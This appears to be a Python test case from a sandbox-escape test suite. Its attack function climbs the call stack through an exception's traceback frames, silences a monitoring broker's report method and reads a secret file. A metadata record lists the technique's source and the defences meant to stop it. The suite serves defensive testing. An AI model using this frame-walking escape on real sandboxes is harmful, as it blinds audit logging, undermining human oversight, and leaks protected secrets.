"""Reach the caller's frame from an exception's traceback, and blind the broker there."""

from tests.escape.grants import read_secret
from tests.escape.technique import Granted, Technique


def attack(world):
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "_hooks") and hasattr(value, "_send_lock"):
                value.report = lambda record: None
                value.send = value.send
        frame = frame.f_back
    world.loot(open(world.secret).read())


TECHNIQUE = Technique(
    source="HackTricks: tb_frame; CVE-2022-36099 class of frame leaks",
    event=("fs.read",),
    stops=("broker", "root view", "landlock"),
    control=Granted(read_secret),
)
